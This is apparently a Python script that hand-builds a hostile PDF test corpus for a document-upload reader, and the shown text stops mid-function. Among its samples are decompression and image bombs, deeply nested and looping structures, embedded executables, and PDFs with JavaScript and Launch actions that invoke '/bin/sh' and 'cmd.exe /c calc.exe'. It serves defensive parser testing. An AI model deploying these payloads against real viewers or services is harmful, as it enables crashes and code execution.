"""Generate the hostile-file corpus: bad, broken and malicious uploads, each made by hand, byte for byte.

    .venv/bin/python scripts/make_hostile_corpus.py [--out tests/data/hostile]

Every file is built here from scratch (no PDF, image or Office library writes them), so the output is the
same bytes on every run and needs nothing beyond the standard library and `cryptography` (for the AES
of encrypted PDFs). `manifest.json` lists each file with what it is and what `check_record` and
`iter_pages` must do with it:

    {"outcome": "rejected", "reason": <UnreadableRecord.reason>}   refused by check_record at upload
    {"outcome": "rejected", "reason": ..., "stage": "read"}        refused at the latest by iter_pages
    {"outcome": "read", "max_seconds": N}                          read safely: no exception, in time

Optional keys: `expect_text` (the read text contains it), `forbid_text` (it contains none of them),
`pages` (exact page count), `password` (an encrypted PDF's user password, to prove it is not just broken).

Files too large to keep in the repository (a 5 MB line of text, a 10,001-member archive) are listed with
`"generated": true` and made at test time by `generate(name, folder)`. Hostile upload names that cannot
live in a git tree (control characters, 300 characters, "../") are given as `upload_name` beside a safe
on-disk name. Every record's text is synthetic: CANARY is the sentence a refusal message must never echo.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
DEFAULT_OUT = ROOT / "tests" / "data" / "hostile"

CANARY = "Quillfeather 7731 disclosed an overdose in March 2009."  # record text: never in a message
CANARY_WORD = "Quillfeather"
HIDDEN = "Marrowbone 4410 attachment text"  # text that must NOT be read (attachments, appended parts)


# --------------------------------------------------------------------------------------------------
# PDF
# --------------------------------------------------------------------------------------------------


@dataclass
class Stream:
    head: bytes  # dictionary entries, without << >> and without /Length
    data: bytes
    compress: bool = True


def ref(num: int) -> bytes:
    return b"%d 0 R" % num


def pdf_string(text: str) -> bytes:
    raw = text.encode("cp1252")
    return b"(" + raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") + b")"


class Pdf:
    """Objects by number, rendered with a classic xref table or packed into object and xref streams."""

    def __init__(self) -> None:
        self.objects: dict[int, bytes | Stream] = {}
        self.count = 0

    def reserve(self) -> int:
        num = self.count = self.count + 1
        self.objects[num] = b"null"
        return num

    def add(self, body: bytes | Stream) -> int:
        num = self.reserve()
        self.objects[num] = body
        return num

    def put(self, num: int, body: bytes | Stream) -> None:
        self.objects[num] = body

    def _body(self, num: int, obj: bytes | Stream, encrypt: Callable[[int, bytes], bytes] | None) -> bytes:
        if isinstance(obj, bytes):
            return obj
        data, head = obj.data, obj.head
        if obj.compress:
            data = zlib.compress(data, 9)
            head += b" /Filter /FlateDecode"
        if encrypt is not None:
            data = encrypt(num, data)
        return b"<< " + head + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"

    def render(
        self,
        root: int,
        *,
        version: bytes = b"1.7",
        trailer: bytes = b"",
        encrypt: Callable[[int, bytes], bytes] | None = None,
        plain: frozenset[int] = frozenset(),  # objects never encrypted (the /Encrypt dictionary)
    ) -> bytes:
        out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
        offsets = {}
        for num in sorted(self.objects):
            offsets[num] = len(out)
            body = self._body(num, self.objects[num], None if num in plain else encrypt)
            out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
        size = max(self.objects) + 1
        xref_at = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for num in range(1, size):
            out += b"%010d 00000 n \n" % offsets[num] if num in offsets else b"0000000000 65535 f \n"
        out += b"trailer\n<< /Size %d /Root %s %s>>\nstartxref\n%d\n%%%%EOF\n" % (
            size,
            ref(root),
            trailer,
            xref_at,
        )
        return bytes(out)

    def render_compact(self, root: int, *, per_stream: int = 1000) -> bytes:
        """PDF 1.5: every non-stream object in Flate object streams, and a predicted xref stream."""
        out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
        entries: dict[int, tuple[int, int, int]] = {}
        packed = [num for num, obj in sorted(self.objects.items()) if isinstance(obj, bytes)]
        next_num = max(self.objects) + 1
        for num, obj in sorted(self.objects.items()):
            if isinstance(obj, Stream):
                entries[num] = (1, len(out), 0)
                out += b"%d 0 obj\n" % num + self._body(num, obj, None) + b"\nendobj\n"
        for start in range(0, len(packed), per_stream):
            group = packed[start : start + per_stream]
            header, bodies = [], bytearray()
            for index, num in enumerate(group):
                header.append(b"%d %d" % (num, len(bodies)))
                bodies += self.objects[num] + b"\n"
                entries[num] = (2, next_num, index)
            head_bytes = b" ".join(header) + b"\n"
            stream = Stream(
                b"/Type /ObjStm /N %d /First %d" % (len(group), len(head_bytes)), head_bytes + bodies
            )
            entries[next_num] = (1, len(out), 0)
            out += b"%d 0 obj\n" % next_num + self._body(next_num, stream, None) + b"\nendobj\n"
            next_num += 1
        xref_num = next_num
        entries[xref_num] = (1, len(out), 0)
        size = xref_num + 1
        rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
        for num in range(1, size):
            kind, a, b = entries.get(num, (0, 0, 0))
            rows.append(struct.pack(">BIH", kind, a, b))
        predicted, previous = bytearray(), bytes(7)
        for row in rows:  # PNG "Up" predictor: each byte minus the byte above it
            predicted += b"\x02" + bytes((x - y) & 0xFF for x, y in zip(row, previous, strict=True))
            previous = row
        data = zlib.compress(bytes(predicted), 9)
        out += (
            b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %s /Filter /FlateDecode "
            b"/DecodeParms << /Predictor 12 /Columns 7 >> /Length %d >>\nstream\n"
            % (xref_num, size, ref(root), len(data))
        )
        out += data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % entries[xref_num][1]
        return bytes(out)


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
LETTER = b"/MediaBox [0 0 612 792]"


def text_ops(lines: list[str], *, x: int = 72, y: int = 720) -> bytes:
    ops = b"BT /F1 12 Tf 14 TL %d %d Td " % (x, y)
    return ops + b" T* ".join(pdf_string(line) + b" Tj" for line in lines) + b" ET\n"


def text_pdf(
    pages: list[list[str]],
    *,
    catalog: bytes = b"",
    page_extra: bytes = b"",
    pdf: Pdf | None = None,
    compress: bool = False,
    resources: bytes = b"",
    after: bytes = b"",
) -> tuple[Pdf, int]:
    """A PDF with one Helvetica text page per entry of `pages`; returns it and its catalog's number.

    `resources` is added to each page's resource dictionary and `after` to the end of its content.
    """
    pdf = pdf or Pdf()
    root, tree, font = pdf.reserve(), pdf.reserve(), pdf.add(FONT)
    kids = []
    for lines in pages:
        content = pdf.add(Stream(b"", text_ops(lines) + after, compress=compress))
        kids.append(
            pdf.add(
                b"<< /Type /Page /Parent %s %s /Resources << /Font << /F1 %s >> %s>> /Contents %s %s>>"
                % (ref(tree), LETTER, ref(font), resources, ref(content), page_extra)
            )
        )
    pdf.put(tree, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(ref(k) for k in kids), len(kids)))
    pdf.put(root, b"<< /Type /Catalog /Pages %s %s>>" % (ref(tree), catalog))
    return pdf, root


def reference_pdf() -> bytes:
    """A plain, valid three-page text PDF: the base that damaged variants are cut from."""
    pdf, root = text_pdf(
        [
            [CANARY, "Page one of a synthetic school record."],
            ["Page two. He repeated the fourth grade in 2009."],
            ["Page three. Seen at the county clinic in 2012."],
        ]
    )
    return pdf.render(root)


def one_page_pdf(lines: list[str] | None = None) -> bytes:
    pdf, root = text_pdf([lines or [CANARY]])
    return pdf.render(root)


def pdf_truncated(fraction: float) -> Callable[[], bytes]:
    def make() -> bytes:
        data = reference_pdf()
        return data[: int(len(data) * fraction)]

    return make


def pdf_cut_before_eof() -> bytes:
    data = reference_pdf()
    return data[: data.rindex(b"%%EOF")]


def _xref_at(data: bytes) -> int:
    return data.rindex(b"\nxref\n") + 1  # (not the "xref" inside "startxref")


def pdf_cut_before_xref() -> bytes:
    data = reference_pdf()
    return data[: _xref_at(data)]


def pdf_compact_cut_before_xref_stream() -> bytes:
    pdf, root = text_pdf([[CANARY], ["Second page."]])
    data = pdf.render_compact(root)
    return data[: data.rindex(b"/Type /XRef") - 12]


def pdf_xref_offsets_shifted() -> bytes:
    data = reference_pdf()
    at = _xref_at(data)
    table, rest = data[at:].split(b"trailer", 1)
    table = table.replace(b" 00000 n ", b" 00000 X ")  # mark, then rewrite each offset 37 bytes off
    lines = []
    for line in table.split(b"\n"):
        if line.endswith(b" 00000 X "):
            line = b"%010d 00000 n " % (int(line[:10]) + 37)
        lines.append(line)
    return data[:at] + b"\n".join(lines) + b"trailer" + rest


def pdf_xref_garbage() -> bytes:
    data = reference_pdf()
    at = _xref_at(data)
    end = data.rindex(b"trailer")
    rng = random.Random(11)
    junk = bytes(rng.choice(b"0123456789abcdefXYZ \n") for _ in range(end - at))
    return data[:at] + junk + data[end:]


def pdf_xref_missing() -> bytes:
    data = reference_pdf()
    return data[: _xref_at(data)] + data[data.rindex(b"trailer") :]


def pdf_startxref_past_end() -> bytes:
    data = reference_pdf()
    at = data.rindex(b"startxref\n") + len(b"startxref\n")
    end = data.index(b"\n", at)
    return data[:at] + b"987654321" + data[end:]


def pdf_xref_prev_loop() -> bytes:
    """The trailer's /Prev points back at the same xref section: an endless chain of updates."""
    data = reference_pdf()
    return data.replace(b"trailer\n<< ", b"trailer\n<< /Prev %d " % _xref_at(data))


def pdf_xref_huge_subsection() -> bytes:
    """The xref table claims two billion entries (a reader that allocates them all runs out of memory)."""
    data = reference_pdf()
    at = _xref_at(data) + len(b"xref\n0 ")
    end = data.index(b"\n", at)
    data = data[:at] + b"2147483647" + data[end:]
    return data.replace(b"/Size 7 ", b"/Size 2147483647 ")


def pdf_garbage_after_header() -> bytes:
    return b"%PDF-1.7\n" + random.Random(7).randbytes(4096)


def pdf_header_only() -> bytes:
    return b"%PDF-1.4\n"


# ---- PDF encryption (standard security handler, hand-made) -----------------------------------------

_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
FILE_ID = bytes.fromhex("5a0c7e31b1d94c2fa3e8d2b7c6a41f90")
PERMISSIONS = -3904


def rc4(key: bytes, data: bytes) -> bytes:
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    out = bytearray()
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) % 256])
    return bytes(out)


def _aes_cbc(key: bytes, iv: bytes, data: bytes) -> bytes:
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

    encryptor = Cipher(algorithms.AES(key), modes.CBC(iv)).encryptor()
    return encryptor.update(data) + encryptor.finalize()


def _aes_ecb(key: bytes, data: bytes) -> bytes:
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

    encryptor = Cipher(algorithms.AES(key), modes.ECB()).encryptor()
    return encryptor.update(data) + encryptor.finalize()


def _pkcs7(data: bytes) -> bytes:
    n = 16 - len(data) % 16
    return data + bytes([n]) * n


def _md5(data: bytes) -> bytes:
    return hashlib.md5(data).digest()


def _hash_r6(password: bytes, salt: bytes, udata: bytes = b"") -> bytes:
    """ISO 32000-2 algorithm 2.B: the iterated SHA-2/AES hash of revision 6."""
    k = hashlib.sha256(password + salt + udata).digest()
    rounds = 0
    while True:
        e = _aes_cbc(k[:16], k[16:32], (password + k + udata) * 64)
        k = (hashlib.sha256, hashlib.sha384, hashlib.sha512)[sum(e[:16]) % 3](e).digest()
        rounds += 1
        if rounds >= 64 and e[-1] <= rounds - 32:
            return k[:32]


class Security:
    """Encrypts objects the way a standard security handler of revision 2, 3, 4 (AES-128) or 6 does."""

    def __init__(self, revision: int, user: str, owner: str) -> None:
        self.revision = revision
        user_pw, owner_pw = user.encode(), owner.encode()
        seed = hashlib.sha256(b"corpus-security-%d-%s" % (revision, user_pw)).digest()
        if revision == 6:
            self.key = seed  # the file key: 32 bytes
            vs, ks, ovs, oks = seed[:8], seed[8:16], seed[16:24], seed[24:32]
            self.u = _hash_r6(user_pw, vs) + vs + ks
            self.ue = _aes_cbc(_hash_r6(user_pw, ks), bytes(16), self.key)
            self.o = _hash_r6(owner_pw, ovs, self.u) + ovs + oks
            self.oe = _aes_cbc(_hash_r6(owner_pw, oks, self.u), bytes(16), self.key)
            perms = struct.pack("<i", PERMISSIONS) + b"\xff\xff\xff\xffTadb" + seed[:4]
            self.perms = _aes_ecb(self.key, perms)
            return
        n = 5 if revision == 2 else 16
        digest = _md5((owner_pw + _PAD)[:32])
        if revision >= 3:
            for _ in range(50):
                digest = _md5(digest)
        owner_key = digest[:n]
        o = rc4(owner_key, (user_pw + _PAD)[:32])
        if revision >= 3:
            for i in range(1, 20):
                o = rc4(bytes(b ^ i for b in owner_key), o)
        self.o = o
        digest = _md5((user_pw + _PAD)[:32] + o + struct.pack("<i", PERMISSIONS) + FILE_ID)
        if revision >= 3:
            for _ in range(50):
                digest = _md5(digest[:n])
        self.key = digest[:n]
        if revision == 2:
            self.u = rc4(self.key, _PAD)
        else:
            u = rc4(self.key, _md5(_PAD + FILE_ID))
            for i in range(1, 20):
                u = rc4(bytes(b ^ i for b in self.key), u)
            self.u = u + bytes(16)

    def dictionary(self) -> bytes:
        hexs = lambda b: b"<" + b.hex().encode() + b">"
        common = b"/Filter /Standard /P %d /O %s /U %s" % (PERMISSIONS, hexs(self.o), hexs(self.u))
        if self.revision == 2:
            return b"<< %s /V 1 /R 2 /Length 40 >>" % common
        if self.revision == 3:
            return b"<< %s /V 2 /R 3 /Length 128 >>" % common
        if self.revision == 4:
            return (
                b"<< %s /V 4 /R 4 /Length 128 /CF << /StdCF << /AuthEvent /DocOpen /CFM /AESV2 /Length 16 "
                b">> >> "
                b"/StmF /StdCF /StrF /StdCF >>" % common
            )
        return (
            b"<< %s /V 5 /R 6 /Length 256 /OE %s /UE %s /Perms %s /CF << /StdCF << /AuthEvent /DocOpen "
            b"/CFM /AESV3 /Length 32 >> >> /StmF /StdCF /StrF /StdCF >>"
            % (common, hexs(self.oe), hexs(self.ue), hexs(self.perms))
        )

    def encrypt(self, num: int, data: bytes) -> bytes:
        iv = _md5(b"iv%d" % num)
        if self.revision == 6:
            return iv + _aes_cbc(self.key, iv, _pkcs7(data))
        salt = b"sAlT" if self.revision == 4 else b""
        key = _md5(self.key + num.to_bytes(3, "little") + b"\x00\x00" + salt)[: min(len(self.key) + 5, 16)]
        if self.revision == 4:
            return iv + _aes_cbc(key, iv, _pkcs7(data))
        return rc4(key, data)


def encrypted_pdf(revision: int, user: str, owner: str = "owner-secret-31") -> Callable[[], bytes]:
    def make() -> bytes:
        security = Security(revision, user, owner)
        pdf, root = text_pdf([[CANARY, "This copy was protected by its sender."]])
        encrypt = pdf.add(security.dictionary())
        file_id = b"<" + FILE_ID.hex().encode() + b">"
        return pdf.render(
            root,
            trailer=b"/Encrypt %s /ID [%s %s] " % (ref(encrypt), file_id, file_id),
            encrypt=security.encrypt,
            plain=frozenset({encrypt}),
        )

    return make


def encrypted_pdf_handler(handler: bytes) -> Callable[[], bytes]:
    """Encrypted with a security handler other than the standard one (certificates, a DRM plug-in)."""

    def make() -> bytes:
        pdf, root = text_pdf([[CANARY]])
        encrypt = pdf.add(
            b"<< /Filter /%s /SubFilter /adbe.pkcs7.s5 /V 4 /Length 128 /Recipients [<3082>] >>" % handler
        )
        file_id = b"<" + FILE_ID.hex().encode() + b">"
        return pdf.render(root, trailer=b"/Encrypt %s /ID [%s %s] " % (ref(encrypt), file_id, file_id))

    return make


# ---- Actions, attachments, forms ------------------------------------------------------------------


def pdf_javascript_actions() -> bytes:
    """OpenAction JavaScript, document and page /AA, a Launch action, a JS form field: all must stay inert."""
    pdf = Pdf()
    root, tree, font = pdf.reserve(), pdf.reserve(), pdf.add(FONT)
    js = lambda code: b"<< /S /JavaScript /JS %s >>" % pdf_string(code)
    content = pdf.add(Stream(b"", text_ops([CANARY, "A page with scripts attached to it."])))
    launch = b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"
    field_num = pdf.reserve()
    page = pdf.add(
        b"<< /Type /Page /Parent %s %s /Resources << /Font << /F1 %s >> >> /Contents %s "
        b"/Annots [%s] /AA << /O %s /C %s >> >>"
        % (
            ref(tree),
            LETTER,
            ref(font),
            ref(content),
            ref(field_num),
            js('app.alert("page opened"); app.launchURL("http://127.0.0.1:9/page", true);'),
            launch,
        )
    )
    pdf.put(
        field_num,
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (evil) /V (typed) /Rect [72 600 300 620] /P %s "
        b"/AA << /K %s /C %s /F %s >> /A %s >>"
        % (
            ref(page),
            js('event.value = "EXECUTED";'),
            js('this.getField("evil").value = "EXECUTED";'),
            js('event.value = "EXECUTED";'),
            launch,
        ),
    )
    scan = pdf.add(
        Stream(
            b"/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray "
            b"/BitsPerComponent 8",
            b"\xff" * 4096,
        )
    )
    blank = pdf.add(Stream(b"", b"q 612 0 0 792 0 0 cm /Im1 Do Q\n"))
    page2 = pdf.add(
        b"<< /Type /Page /Parent %s %s /Resources << /XObject << /Im1 %s >> >> /Contents %s "
        b"/AA << /O %s >> >>" % (ref(tree), LETTER, ref(scan), ref(blank), js("app.alert(2);"))
    )
    pdf.put(tree, b"<< /Type /Pages /Kids [%s %s] /Count 2 >>" % (ref(page), ref(page2)))
    names = pdf.add(b"<< /Names [(init) %s] >>" % js('this.submitForm("http://127.0.0.1:9/submit");'))
    pdf.put(
        root,
        b"<< /Type /Catalog /Pages %s /OpenAction %s /AA << /WC %s /WP %s >> /Names << /JavaScript %s >> "
        b"/AcroForm << /Fields [%s] /NeedAppearances true >> >>"
        % (
            ref(tree),
            js('app.alert("opened"); this.exportDataObject({cName: "a", nLaunch: 2});'),
            js("app.alert(3);"),
            js("app.alert(4);"),
            ref(names),
            ref(field_num),
        ),
    )
    return pdf.render(root)


def pdf_with_attachments() -> bytes:
    """A document-level embedded file (a program and a PDF) and a file-attachment annotation."""
    pdf = Pdf()
    inner_pdf = one_page_pdf([HIDDEN])
    program = ELF_HEADER + HIDDEN.encode()
    inner = pdf.add(Stream(b"/Type /EmbeddedFile /Subtype /application#2Fpdf", inner_pdf))
    exe = pdf.add(Stream(b"/Type /EmbeddedFile", program))
    spec_pdf = pdf.add(b"<< /Type /Filespec /F (notes.pdf) /UF (notes.pdf) /EF << /F %s >> >>" % ref(inner))
    spec_exe = pdf.add(b"<< /Type /Filespec /F (update.exe) /UF (update.exe) /EF << /F %s >> >>" % ref(exe))
    pdf_main, root = text_pdf(
        [[CANARY, "See the attached notes."]],
        pdf=pdf,
        catalog=b"/Names << /EmbeddedFiles << /Names [(notes.pdf) %s (update.exe) %s] >> >> "
        % (ref(spec_pdf), ref(spec_exe)),
        page_extra=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [72 500 90 520] /FS %s "
        b"/Contents (attachment) >>] " % ref(spec_exe),
    )
    return pdf_main.render(root)


def pdf_xfa() -> bytes:
    """A dynamic XFA form: the page content is only a 'please wait' placeholder."""
    pdf = Pdf()
    xfa = pdf.add(Stream(b"", b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'))
    pdf_main, root = text_pdf(
        [["Please wait... If this message is not eventually replaced, your viewer cannot show XFA."]],
        pdf=pdf,
        catalog=b"/NeedsRendering true /AcroForm << /Fields [] /XFA %s >> " % ref(xfa),
    )
    return pdf_main.render(root)


def pdf_no_pages() -> bytes:
    pdf = Pdf()
    root, tree = pdf.reserve(), pdf.reserve()
    pdf.put(tree, b"<< /Type /Pages /Kids [] /Count 0 >>")
    pdf.put(root, b"<< /Type /Catalog /Pages %s >>" % ref(tree))
    return pdf.render(root)


# ---- Page trees: many, looping, lying -------------------------------------------------------------


def pdf_many_empty_pages(count: int, fan_out: int = 500) -> Callable[[], bytes]:
    """`count` distinct page objects with nothing on them, in a two-level tree, packed in object streams."""

    def make() -> bytes:
        pdf = Pdf()
        root, tree = pdf.reserve(), pdf.reserve()
        nodes = []
        for start in range(0, count, fan_out):
            node = pdf.reserve()
            kids = [
                pdf.add(b"<< /Type /Page /Parent %s >>" % ref(node))
                for _ in range(min(fan_out, count - start))
            ]
            pdf.put(
                node,
                b"<< /Type /Pages /Parent %s /Kids [%s] /Count %d >>"
                % (ref(tree), b" ".join(map(ref, kids)), len(kids)),
            )
            nodes.append(node)
        pdf.put(
            tree, b"<< /Type /Pages %s /Kids [%s] /Count %d >>" % (LETTER, b" ".join(map(ref, nodes)), count)
        )
        pdf.put(root, b"<< /Type /Catalog /Pages %s >>" % ref(tree))
        return pdf.render_compact(root)

    return make


def _tree_pdf(tree_body: Callable[[int, int], bytes]) -> bytes:
    """One text page (object 4) under a page tree whose root node (2) is written by `tree_body`."""
    pdf = Pdf()
    root, tree, font = pdf.reserve(), pdf.reserve(), pdf.add(FONT)
    content = pdf.add(Stream(b"", text_ops([CANARY])))
    page = pdf.add(
        b"<< /Type /Page /Parent %s %s /Resources << /Font << /F1 %s >> >> /Contents %s >>"
        % (ref(tree), LETTER, ref(font), ref(content))
    )
    pdf.put(tree, tree_body(tree, page))
    pdf.put(root, b"<< /Type /Catalog /Pages %s >>" % ref(tree))
    return pdf.render(root)


def pdf_tree_self_loop() -> bytes:
    """The root page-tree node lists itself among its kids (a cycle), beside one real page."""
    return _tree_pdf(lambda tree, page: b"<< /Type /Pages /Kids [%s %s] /Count 2 >>" % (ref(page), ref(tree)))


def pdf_tree_mutual_loop() -> bytes:
    """Two intermediate nodes that are each other's only kid; the real page comes after them."""
    pdf = Pdf()
    root, tree, font = pdf.reserve(), pdf.reserve(), pdf.add(FONT)
    content = pdf.add(Stream(b"", text_ops([CANARY])))
    page = pdf.add(
        b"<< /Type /Page /Parent %s %s /Resources << /Font << /F1 %s >> >> /Contents %s >>"
        % (ref(tree), LETTER, ref(font), ref(content))
    )
    a, b = pdf.reserve(), pdf.reserve()
    pdf.put(a, b"<< /Type /Pages /Parent %s /Kids [%s] /Count 1 >>" % (ref(tree), ref(b)))
    pdf.put(b, b"<< /Type /Pages /Parent %s /Kids [%s] /Count 1 >>" % (ref(a), ref(a)))
    pdf.put(tree, b"<< /Type /Pages /Kids [%s %s] /Count 2 >>" % (ref(a), ref(page)))
    pdf.put(root, b"<< /Type /Catalog /Pages %s >>" % ref(tree))
    return pdf.render(root)


def pdf_count_lies(count: int) -> Callable[[], bytes]:
    """One real page under a root node whose /Count claims `count` pages."""

    def make() -> bytes:
        return _tree_pdf(lambda tree, page: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (ref(page), count))

    return make


def pdf_kids_point_at_catalog() -> bytes:
    """The page tree lists the catalog (which points back at the tree) as a kid."""
    return _tree_pdf(lambda tree, page: b"<< /Type /Pages /Kids [1 0 R %s] /Count 2 >>" % ref(page))


# ---- Nesting and streams --------------------------------------------------------------------------


def _one_page(
    content: bytes, *, page_extra: bytes = b"", resources: bytes = b"", compact: bool = False
) -> bytes:
    pdf = Pdf()
    root, tree, font = pdf.reserve(), pdf.reserve(), pdf.add(FONT)
    stream = pdf.add(Stream(b"", content))
    page = pdf.add(
        b"<< /Type /Page /Parent %s %s /Resources << /Font << /F1 %s >> %s >> /Contents %s %s >>"
        % (ref(tree), LETTER, ref(font), resources, ref(stream), page_extra)
    )
    pdf.put(tree, b"<< /Type /Pages /Kids [%s] /Count 1 >>" % ref(page))
    pdf.put(root, b"<< /Type /Catalog /Pages %s >>" % ref(tree))
    return pdf.render_compact(root) if compact else pdf.render(root)


def pdf_deep_arrays() -> bytes:
    depth = 100_000
    return _one_page(
        text_ops([CANARY]), page_extra=b"/Deep " + b"[" * depth + b"0" + b"]" * depth, compact=True
    )


def pdf_deep_dicts() -> bytes:
    depth = 50_000
    return _one_page(
        text_ops([CANARY]), page_extra=b"/Deep " + b"<< /A " * depth + b"0" + b" >>" * depth, compact=True
    )


def pdf_deep_content_nesting() -> bytes:
    """200,000 nested graphics-state saves and a 100,000-deep array operand in the page content."""
    content = b"q\n" * 200_000 + text_ops([CANARY]) + b"Q\n" * 200_000
    content += b"BT /F1 12 Tf 72 600 Td " + b"[" * 100_000 + b"(x)" + b"]" * 100_000 + b" TJ ET\n"
    return _one_page(content)


def pdf_form_self_recursion() -> bytes:
    """A form XObject that draws itself."""
    pdf = Pdf()
    form = pdf.reserve()
    pdf.put(
        form,
        Stream(
            b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /Fm0 %s >> >>"
            % ref(form),
            b"/Fm0 Do\n",
        ),
    )
    pdf, root = text_pdf(
        [[CANARY]], pdf=pdf, resources=b"/XObject << /Fm0 %s >> " % ref(form), after=b"/Fm0 Do\n"
    )
    return pdf.render(root)


def pdf_form_fan_out(depth: int, *, loop: bool = False) -> Callable[[], bytes]:
    """Form i draws form i+1 twice: 2**depth draws of one word from a file of a few KB (a 'billion laughs').

    With `loop`, the last form also draws /Fm0, which is not in its own resources but in the page's
    (pdfium falls back to them), so the chain starts over at every leaf until the nesting limit.
    """

    def make() -> bytes:
        pdf = Pdf()
        font = pdf.add(FONT)
        forms = [pdf.reserve() for _ in range(depth + 1)]
        for level, num in enumerate(forms):
            if level < depth:
                data, res = (
                    b"/Fn Do /Fn Do\n",
                    b"/Resources << /XObject << /Fn %s >> >>" % ref(forms[level + 1]),
                )
            else:
                data = b"BT /F1 1 Tf 10 10 Td (lol) Tj ET\n" + (b"/Fm0 Do\n" if loop else b"")
                res = b"/Resources << /Font << /F1 %s >> >>" % ref(font)
            pdf.put(num, Stream(b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] %s" % res, data))
        pdf, root = text_pdf(
            [[CANARY]], pdf=pdf, resources=b"/XObject << /Fm0 %s >> " % ref(forms[0]), after=b"/Fm0 Do\n"
        )
        return pdf.render(root)

    return make


def pdf_huge_text_shared(pages: int, chars: int) -> Callable[[], bytes]:
    """`pages` pages sharing one compressed content stream that shows `chars` characters."""

    def make() -> bytes:
        pdf = Pdf()
        root, tree, font = pdf.reserve(), pdf.reserve(), pdf.add(FONT)
        show = b"(" + b"lorem ipsum dolor sit amet " * 4 + b") Tj "  # 108 characters
        content = pdf.add(Stream(b"", b"BT /F1 1 Tf 0 400 Td " + show * (chars // 108) + b"ET\n"))
        kids = [
            pdf.add(
                b"<< /Type /Page /Parent %s %s /Resources << /Font << /F1 %s >> >> /Contents %s >>"
                % (ref(tree), LETTER, ref(font), ref(content))
            )
            for _ in range(pages)
        ]
        pdf.put(tree, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(map(ref, kids)), pages))
        pdf.put(root, b"<< /Type /Catalog /Pages %s >>" % ref(tree))
        return pdf.render(root)

    return make


def pdf_huge_declared_length(length: bytes) -> Callable[[], bytes]:
    def make() -> bytes:
        data = one_page_pdf()
        at = data.index(b"/Length ")
        end = data.index(b" >>", at)
        return data[:at] + b"/Length " + length + data[end:]

    return make


def pdf_flate_bomb_content() -> bytes:
    """A page whose content stream inflates from ~30 KB to 32 MB (whitespace around one line of text)."""
    return _one_page(b" " * (32 * 1024 * 1024) + text_ops([CANARY]))


def pdf_corrupt_flate_content() -> bytes:
    pdf = Pdf()
    root, tree, font = pdf.reserve(), pdf.reserve(), pdf.add(FONT)
    good = zlib.compress(text_ops([CANARY]), 9)
    bad = good[:12] + bytes(b ^ 0x5A for b in good[12:40]) + good[40:]
    stream = pdf.add(b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(bad) + bad + b"\nendstream")
    page = pdf.add(
        b"<< /Type /Page /Parent %s %s /Resources << /Font << /F1 %s >> >> /Contents %s >>"
        % (ref(tree), LETTER, ref(font), ref(stream))
    )
    pdf.put(tree, b"<< /Type /Pages /Kids [%s] /Count 1 >>" % ref(page))
    pdf.put(root, b"<< /Type /Catalog /Pages %s >>" % ref(tree))
    return pdf.render(root)


def _image_page(
    image: bytes | Stream, *, mediabox: bytes = LETTER, draw: bytes = b"612 0 0 792 0 0"
) -> bytes:
    pdf = Pdf()
    root, tree = pdf.reserve(), pdf.reserve()
    xobject = pdf.add(image)
    content = pdf.add(Stream(b"", b"q " + draw + b" cm /Im1 Do Q\n"))
    page = pdf.add(
        b"<< /Type /Page /Parent %s %s /Resources << /XObject << /Im1 %s >> >> /Contents %s >>"
        % (ref(tree), mediabox, ref(xobject), ref(content))
    )
    pdf.put(tree, b"<< /Type /Pages /Kids [%s] /Count 1 >>" % ref(page))
    pdf.put(root, b"<< /Type /Catalog /Pages %s >>" % ref(tree))
    return pdf.render(root)


def pdf_image_bomb_flate() -> bytes:
    """A page (no text, so it goes to OCR) showing a 60,000 x 60,000 image: 3.6 GB if decoded whole."""
    return _image_page(
        Stream(
            b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray "
            b"/BitsPerComponent 8",
            b"\xff" * 60000 * 16,
        )
    )


def pdf_image_bomb_dct() -> bytes:
    """A page showing a JPEG (DCTDecode) image whose header claims 65,000 x 65,000 pixels."""
    jpeg = jpeg_gray(65000, 65000, blocks=4)
    return _image_page(
        Stream(
            b"/Type /XObject /Subtype /Image /Width 65000 /Height 65000 /ColorSpace /DeviceGray "
            b"/BitsPerComponent 8 /Filter /DCTDecode",
            jpeg,
            compress=False,
        )
    )


def pdf_absurd_mediabox() -> bytes:
    """A page 10^30 points on a side showing an image (the OCR render must not size a bitmap from it)."""
    image = Stream(
        b"/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8",
        b"\x80" * 4096,
    )
